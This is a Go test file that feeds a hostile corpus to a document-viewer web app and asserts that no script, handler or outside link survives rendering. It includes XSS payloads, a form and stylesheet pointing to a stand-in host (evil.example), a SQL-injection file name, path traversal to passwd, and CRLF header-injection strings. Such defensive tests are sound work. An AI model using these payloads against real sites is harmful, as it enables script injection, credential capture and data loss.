package web

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"testigo/pipeline"
	"testigo/record"
)

// payloads are ways out of a page that documents try.
var payloads = []string{
	`<script>window.hacked=1</script>`,
	`"><img src=x onerror="window.hacked=1">`,
	`<svg onload="window.hacked=1"><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>`,
	`</blockquote></details></main><h1>Owned</h1><form action=//evil.example><input name=token>`,
	`<style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/x.css>`,
	`{{template "layout"}} ${window.hacked=1} <%= 1 %>`,
	`javascript:window.hacked=1//`,
	"\u202e\u2066gnihtemos\u202d\u2067 backwards\u200f",
	"zero\u200bwidth\ufeff\u2028line\u2029paragraph",
	strings.Repeat("W", 20000),
	strings.Repeat("́", 3000) + "Zalgo" + strings.Repeat("̴̷", 3000),
	`<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example">`,
}

// hostileCorpus writes sixty documents that try to break out of the page: each payload in the title, the words, the speaker, the place and
// the file name of a text and a page, and files that are broken in other ways.
func hostileCorpus(t *testing.T, dir string) {
	t.Helper()
	n := 0
	put := func(name, text string) {
		t.Helper()
		n++
		name = fmt.Sprintf("%02d-%s", n, name)
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	story := func(p string) string {
		return "LIMA, 9 March 1998. On 7 March 1998 the police killed 12 people in Juliaca, " + p + " said. Protesters of " + p + " blocked the road to Puno on 8 March 1998, and 40 were arrested. The union " + p + " demands the release of its members."
	}
	for _, p := range payloads {
		put("text.txt", p+"\n\n"+story(p))
		put("page.html", "<html><head><title>"+p+"</title><meta name=author content='"+strings.ReplaceAll(p, "'", "")+"'></head><body><article><h1>"+strings.ReplaceAll(strings.ReplaceAll(p, "&", "&amp;"), "<", "&lt;")+"</h1><p>"+strings.ReplaceAll(strings.ReplaceAll(story(p), "&", "&amp;"), "<", "&lt;")+"</p></article></body></html>")
		put("raw.html", "<html><body><article><p>"+story(p)+"</p>"+p+"</article></body></html>")
		put("notes.md", "# "+p+"\n\n"+story(p)+"\n\n["+p+"](javascript:window.hacked=1)")
	}
	for _, name := range []string{`<img src=x onerror=hacked=1>.txt`, `"><script>hacked=1<script>.txt`, `'; DROP TABLE events;--.txt`, "\u202etxt.exe.txt", "a\nb.txt", `..%2f..%2fpasswd.txt`} {
		put(name, "TITLE\n\n"+story("somebody"))
	}
	put("nul.txt", "Title\x00\n\n"+story("n\x00l"))
	put("latin.txt", "T\xedtulo \xff\xfe\n\n"+story("\xc3\x28 \xf0\x28\x8c\x28"))
	put("big-title.html", "<html><head><title>"+strings.Repeat("T\u00edtulo <b>", 10<<20/11)+"</title></head><body><p>"+story("somebody")+"</p></body></html>")
	put("control.txt", "Title \x1b[31m\x07\x08\n\n"+story("\x1b]0;owned\x07"))
	put("crlf.txt", "Title\r\n\r\n"+story("Set-Cookie: a=b\r\nLocation: //evil.example"))
	put("empty.txt", "")
	if n != 60 {
		t.Fatalf("%d documents", n)
	}
}

func TestHostileDocumentsStayText(t *testing.T) {
	dir := t.TempDir()
	in := filepath.Join(dir, `in <b>&"'`)
	if err := os.Mkdir(in, 0o755); err != nil {
		t.Fatal(err)
	}
	hostileCorpus(t, in)
	out := filepath.Join(dir, "hostile.testigo")
	sum, err := pipeline.Build(context.Background(), pipeline.Options{Paths: []string{in}, Out: out})
	if err != nil {
		t.Fatal(err)
	}
	if sum.Documents < 50 || sum.Events < 2 {
		t.Fatalf("only %d documents and %d events of the corpus were read", sum.Documents, sum.Events)
	}
	r, base := openRoom(t, out, nil)
	b := openTab(t, base, "/")
	rec, done, err := r.desk.Record(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	defer done()
	docs, err := rec.Documents(context.Background(), "", 0, 100)
	if err != nil {
		t.Fatal(err)
	}
	actors, err := rec.Actors(context.Background(), record.NoActorKind, "", 0, 3)
	if err != nil {
		t.Fatal(err)
	}
	pages := []string{"/", "/chronology", "/documents", "/actors", "/questions", "/questions?status=single", "/findings", "/search?q=police", "/search?q=%3Cscript%3Ewindow.hacked%3D1%3C%2Fscript%3E", "/chronology?q=%22%3E%3Cimg+src%3Dx+onerror%3Dhacked%3D1%3E"}
	for _, a := range actors.Actors {
		pages = append(pages, "/actors/"+a.ID)
	}
	for i, d := range docs.Documents {
		if i%3 == 0 || d.Bytes > 1<<20 {
			pages = append(pages, "/documents/"+d.ID)
		}
	}
	b.resize(390)
	for _, path := range pages {
		b.open(path)
		if path == "/chronology" {
			b.is("lines open", `(document.querySelectorAll("details.ev").forEach((d, i) => { if (i < 12) d.open = true }), true)`)
			b.is("with their quotes", `document.querySelectorAll("details.ev[open] blockquote").length > 0 && !document.querySelector("[aria-busy=true]")`)
		}
		b.is(path+": nothing ran", `!("hacked" in window)`)
		b.is(path+": no element of a document is in the page", `[...document.querySelectorAll("script, link, style, iframe, img, base, object, embed, svg, meta[http-equiv]")].every(e => e.matches("script[src^='/assets/'], link[href^='/assets/']") || e.localName === "svg" && !e.hasAttribute("onload"))`)
		b.is(path+": no attribute runs", `![...document.querySelectorAll("*")].some(e => [...e.attributes].some(a => a.name.startsWith("on") || a.name === "style" && !e.matches(".hollow") || /^\s*javascript:/i.test(a.value) && ["href", "src", "action"].includes(a.name)))`)
		b.is(path+": links stay in the room", `[...document.querySelectorAll("a[href], form[action]")].every(e => (e.getAttribute("href") || e.getAttribute("action")).match(/^[\/#](?!\/)/))`)
		b.is(path+": the frame stands", `document.querySelector(".foot").checkVisibility() && document.querySelectorAll("main").length === 1`)
		b.fits(path)
	}
	b.open("/documents/" + docs.Documents[0].ID)
	b.is("the words of the documents are shown as they stand", `document.querySelector(".text").innerText.includes("<script>window.hacked=1</script>")`)
	b.quiet()
	// the test can see what it looks for: a page of the same corpus without the policy and the escaping would be caught
	b.is("an injected attribute is seen", `(() => { const e = document.createElement("p"); e.setAttribute("onclick", "1"); document.body.append(e); return [...document.querySelectorAll("*")].some(e => [...e.attributes].some(a => a.name.startsWith("on"))) })()`)
	b.is("an injected script does not run", `(() => { const e = document.createElement("script"); e.textContent = "window.hacked=2"; document.body.append(e); return !("hacked" in window) })()`)
	b.saw("Content Security Policy")
}
